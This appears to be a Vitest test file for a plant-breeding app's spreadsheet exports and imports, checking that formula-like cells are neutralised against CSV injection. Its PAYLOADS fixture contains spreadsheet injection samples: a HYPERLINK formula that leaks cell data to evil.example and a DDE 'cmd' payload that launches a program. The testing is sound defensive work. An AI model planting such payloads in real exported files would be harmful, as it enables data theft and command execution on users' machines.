import os from 'node:os';
import path from 'node:path';
import fs from 'node:fs';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { locationIoLabels } from '@breedwise/contracts/doe';
import { createTestApp, multipartBody, waitForTask, type TestApp } from '../test/harness';
import { csvLine, importedText, isFormulaLike, safeCell, trimUncoversFormula } from '../modules/common/io/cells';
import { buildWorkbook, writeWorkbookFile } from '../modules/common/io/xlsx';

/**
 * Issue 12 item 2: no exported cell (CSV or xlsx) can be read as a formula. OWASP's rule: a text
 * starting with =, +, -, @, tab or carriage return gets a leading apostrophe.
 */
const PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=2+2'];
const ALIGNED = PAYLOADS.map((p) => p.trim());

let t: TestApp;
let admin: string;
const en = { 'accept-language': 'en' };
beforeAll(async () => {
  t = await createTestApp({ BW_EXPORT_DIRECT_ROWS: '5' });
  admin = await t.login('admin');
});
afterAll(() => t.close());

async function sheetCells(buffer: Buffer): Promise<string[][]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as never);
  const out: string[][] = [];
  for (const ws of wb.worksheets) {
    ws.eachRow((row) => out.push((row.values as unknown[]).slice(1).map((v) => (typeof v === 'string' ? v : v === null || v === undefined ? '' : String(v)))));
  }
  return out;
}

/** RFC 4180 records (quoted fields may hold commas, quotes and line breaks), keyed by the header. */
function parseCsv(text: string): Record<string, string>[] {
  const rows: string[][] = [[]];
  let field = '';
  let quoted = false;
  const endField = () => {
    rows.at(-1)!.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted && ch === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (quoted && ch === '"') quoted = false;
    else if (quoted) field += ch;
    else if (ch === '"') quoted = true;
    else if (ch === ',') endField();
    else if (ch === '\r' && text[i + 1] === '\n') {
      endField();
      rows.push([]);
      i++;
    } else field += ch;
  }
  const [header, ...data] = rows.filter((r) => r.length > 1);
  return data.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
}

/** Every text cell is safe; each payload (as stored) appears with its apostrophe. */
function expectNeutralised(cells: string[], stored: string[], where: string) {
  const risky = cells.filter((c) => typeof c === 'string' && isFormulaLike(c));
  expect(risky, where).toEqual([]);
  // XML reads a carriage return back as a line feed.
  const read = cells.map((c) => c.replace(/\r\n?/g, '\n'));
  for (const p of stored) expect(read, `${where}: ${JSON.stringify(p)}`).toContain(`'${p}`.replace(/\r\n?/g, '\n'));
}

/** An export: the file at once, or (above BW_EXPORT_DIRECT_ROWS) the file its task produced. */
async function download(url: string, query: Record<string, string> = {}): Promise<{ buffer: Buffer; viaTask: boolean }> {
  const res = await t.app.inject({ method: 'GET', url, query, headers: { token: admin, ...en } });
  expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
  if (!String(res.headers['content-type']).includes('json')) return { buffer: res.rawPayload, viaTask: false };
  const task = await waitForTask(t, admin, res.json().data.taskId);
  expect(task.status).toBe('succeeded');
  const file = await t.app.inject({ method: 'GET', url: '/api/common/fileExport', query: { taskId: String(task.id) }, headers: { token: admin } });
  return { buffer: file.rawPayload, viaTask: true };
}

describe('the one helper', () => {
  it('neutralises formula-like texts only', () => {
    for (const p of PAYLOADS) expect(safeCell(p)).toBe(`'${p}`);
    for (const v of ['plain', '郑单958', 'A/B//C', "'=already", '-2', '+3.5', '-1e5', '.5', 42, -2, null, true, ''])
      expect(safeCell(v as never), String(v)).toBe(v);
    expect(csvLine(['=1+1', 'a,b', 'say "hi"', -2, null, '-', '@x'])).toBe(`'=1+1,"a,b","say ""hi""",-2,,'-,'@x`);
    expect(csvLine(['\r=1+1'])).toBe(`"'\r=1+1"`);
  });

  it('reads our escape back on import, and refuses a tab or line break hiding a formula', () => {
    for (const p of ALIGNED) expect(importedText(`'${p}`)).toBe(p);
    expect(importedText("'quoted")).toBe("'quoted");
    expect(importedText('=kept as typed')).toBe('=kept as typed');
    expect(trimUncoversFormula('\t=1+1')).toBe(true);
    expect(trimUncoversFormula(' \r\n@SUM(1)')).toBe(true);
    expect(trimUncoversFormula('  =1+1')).toBe(false);
    expect(trimUncoversFormula('\t-5')).toBe(false);
    expect(trimUncoversFormula('\tplain')).toBe(false);
  });

  it('is applied by both xlsx writers, to headers and cells', async () => {
    const columns = [
      { header: '=H()', key: 'a' },
      { header: 'n', key: 'n' },
    ];
    const rows = PAYLOADS.map((a, i) => ({ a, n: -i }));
    const inMemory = (await sheetCells(await buildWorkbook([{ name: 'x', columns, rows }]))).flat();
    expectNeutralised(inMemory, [...PAYLOADS, '=H()'], 'buildWorkbook');
    const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'bw-cells-')), 'x.xlsx');
    async function* gen() {
      yield* rows;
    }
    await writeWorkbookFile(file, 'x', columns, gen());
    const streamed = (await sheetCells(fs.readFileSync(file))).flat();
    expectNeutralised(streamed, [...PAYLOADS, '=H()'], 'writeWorkbookFile');
    fs.rmSync(path.dirname(file), { recursive: true, force: true });
    // Numbers stay numbers.
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await buildWorkbook([{ name: 'x', columns, rows }])) as never);
    expect(wb.worksheets[0].getRow(3).getCell(2).value).toBe(-1);
  });
});

describe('every export', () => {
  it('locations: the direct export and the export task', async () => {
    for (const [i, name] of PAYLOADS.entries()) {
      const res = await t.call('POST', '/api/doe/api/location/create', { token: admin, body: { name, code: `FX-${i}`, remark: name } });
      expect(res.status, res.text).toBe(200);
    }
    const direct = await download('/api/doe/api/location/export', { filters: JSON.stringify([{ key: 'code', value: 'FX-|begins' }]), pageSize: '5' });
    const small = await download('/api/doe/api/location/export', { keyword: 'FX-1' });
    expect(small.viaTask).toBe(false);
    expectNeutralised((await sheetCells(small.buffer)).flat(), [ALIGNED[1]], 'location export (direct)');
    expect(direct.viaTask).toBe(true);
    expectNeutralised((await sheetCells(direct.buffer)).flat(), ALIGNED, 'location export (task)');
  });

  it('germplasm', async () => {
    for (const [i, name] of PAYLOADS.entries()) {
      const res = await t.call('POST', '/api/germ/api/germplasm/create', {
        token: admin,
        // A payload with a slash inside brackets is no Purdy pedigree (refused since the pedigree engine reads
        // brackets as part of names); the name column still carries it.
        body: { accessionNo: `FX-G${i}`, name, type: 'inbred', pedigree: name.includes('/') ? undefined : name },
      });
      expect(res.status, res.text).toBe(200);
    }
    const { buffer } = await download('/api/germ/api/germplasm/export', { keyword: 'FX-G' });
    expectNeutralised((await sheetCells(buffer)).flat(), ALIGNED, 'germplasm export');
  });

  it('planting lists', async () => {
    const res = await t.call('POST', '/api/doe/api/germList/create', {
      token: admin,
      body: { name: '=cmd|list', type: 'nursery', usage: '@usage', entries: PAYLOADS.map((p, i) => ({ entryId: i + 1, materialName: p, generation: 'F2' })) },
    });
    expect(res.status, res.text).toBe(200);
    const { buffer } = await download('/api/doe/api/germList/export', { keyword: '=cmd' });
    expectNeutralised((await sheetCells(buffer)).flat(), ['=cmd|list', '@usage'], 'planting list export');
  });

  describe('an experiment', () => {
    let expId: number;
    beforeAll(async () => {
      const call = (method: string, url: string, body?: unknown) => t.call(method, `/api/doe/api${url}`, { token: admin, body, headers: en });
      const locationId = (await call('POST', '/location/create', { name: 'FX station', code: 'FX-S' })).body.data.id;
      const fieldId = (await call('POST', '/field/create', { locationId, name: 'F', code: 'FX-F', type: 1, rows: 4, cols: 4 })).body.data.id;
      expId = (
        await call('POST', '/experiment/create', {
          name: 'FX',
          code: 'FX-E',
          year: 2026,
          season: 'autumn',
          designMethod: 'rcbd',
          reps: 2,
          projectId: (await call('POST', '/project/create', { name: 'FX project', code: 'FX-P' })).body.data.id,
          locationId,
          fieldId,
        })
      ).body.data.id;
      const entries = [
        ...PAYLOADS.map((p, i) => ({ entryNo: i + 1, name: p, pedigree: p, generation: 'F4' })),
        { entryNo: PAYLOADS.length + 1, name: '-check', type: 'check' },
      ];
      expect((await call('PUT', '/experiment/entries', { id: expId, entries })).status).toBe(200);
      const design = await call('POST', '/experiment/design', {
        id: expId,
        planName: 'RCBD',
        designMethod: 'rcbd',
        reps: 2,
        rows: 4,
        cols: 4,
        filler: '=filler',
        seed: 7,
      });
      expect(design.status, design.text).toBe(200);
      expect((await waitForTask(t, admin, design.body.data.taskId)).status).toBe('succeeded');
    });

    it('field book as CSV: germplasm_name and pedigree neutralised', async () => {
      const res = await t.app.inject({ method: 'GET', url: `/api/doe/api/experiment/fieldbook/${expId}`, query: { format: 'csv' }, headers: { token: admin } });
      expect(res.headers['content-type']).toContain('text/csv');
      const records = parseCsv(res.body);
      expect(records.length).toBe(16);
      const cells = records.flatMap((r) => Object.values(r));
      expectNeutralised(cells, ALIGNED, 'field book csv');
      expect(new Set(records.map((r) => r.pedigree)).has(`'${ALIGNED[0]}`)).toBe(true);
    });

    it('field book as xlsx', async () => {
      const res = await t.app.inject({ method: 'GET', url: `/api/doe/api/experiment/fieldbook/${expId}`, headers: { token: admin, ...en } });
      expectNeutralised((await sheetCells(res.rawPayload)).flat(), ALIGNED, 'field book xlsx');
    });

    it('harvest list', async () => {
      const call = (method: string, url: string, body?: unknown) => t.call(method, `/api/doe/api${url}`, { token: admin, body, headers: en });
      await call('PUT', '/experiment/status', { id: expId, action: 'finish' });
      const started = await call('POST', '/harvest/generate', { experimentId: expId, name: '=harvest', advanceGeneration: false });
      expect((await waitForTask(t, admin, started.body.data.taskId)).status).toBe('succeeded');
      const list = (await call('GET', `/harvest/page?experimentId=${expId}`)).body.rows[0];
      const res = await t.app.inject({ method: 'GET', url: `/api/doe/api/harvest/export/${list.id}`, headers: { token: admin, ...en } });
      expectNeutralised((await sheetCells(res.rawPayload)).flat(), ALIGNED, 'harvest export');
    });
  });
});

describe('imports', () => {
  async function importLocations(rows: unknown[][]) {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Sheet1');
    ws.addRow(['Name*', 'Code*', 'Remark']);
    rows.forEach((r) => ws.addRow(r));
    const { payload, headers } = multipartBody({ mode: 'valid' }, { name: 'fx.xlsx', content: Buffer.from(await wb.xlsx.writeBuffer()) });
    const res = await t.app.inject({ method: 'POST', url: '/api/doe/api/location/import', payload, headers: { ...headers, token: admin, ...en } });
    return waitForTask(t, admin, res.json().data.taskId);
  }

  it('stores formula-like texts as typed, takes our export escape back off, and refuses a tab hiding a formula', async () => {
    const task = await importLocations([
      ['=SUM(1,2)', 'FXI-1', '@remark'],
      ["'+1+cmd|' /C calc'!A0", 'FXI-2', "'-2+3"],
      ['\t=1+1', 'FXI-3', ''],
      ['Plain', 'FXI-4', '\r\n@SUM(9)'],
      ['  =spaces are trimmed', 'FXI-5', ''],
    ]);
    expect(task.status).toBe('succeeded');
    expect(task.result).toMatchObject({ total: 5, valid: 3, invalid: 2, imported: 3 });
    expect(task.result.errors).toEqual([
      {
        row: 4,
        field: locationIoLabels.columns.name.label.en,
        message: 'Name starts with a tab or line break followed by a formula character (= + - @): remove the leading characters',
      },
      {
        row: 5,
        field: locationIoLabels.columns.remark.label.en,
        message: 'Remark starts with a tab or line break followed by a formula character (= + - @): remove the leading characters',
      },
    ]);
    const page = await t.call('GET', '/api/doe/api/location/page', { token: admin, query: { keyword: 'FXI-', pageSize: 20 } });
    const byCode = Object.fromEntries(page.body.rows.map((r: { code: string; name: string; remark: string | null }) => [r.code, [r.name, r.remark]]));
    expect(byCode).toEqual({ 'FXI-1': ['=SUM(1,2)', '@remark'], 'FXI-2': ["+1+cmd|' /C calc'!A0", '-2+3'], 'FXI-5': ['=spaces are trimmed', null] });
    // The import error report is an export as well.
    const report = await t.app.inject({ method: 'GET', url: `/api/common/task/report/${task.id}`, headers: { token: admin, ...en } });
    expect((await sheetCells(report.rawPayload)).flat().filter(isFormulaLike)).toEqual([]);
    // Export, then import the file again: the same texts (round trip).
    const exported = await download('/api/doe/api/location/export', { keyword: 'FXI-1' });
    const cells = await sheetCells(exported.buffer);
    expect(cells[1]).toEqual(expect.arrayContaining(["'=SUM(1,2)", "'@remark"]));
  });
});
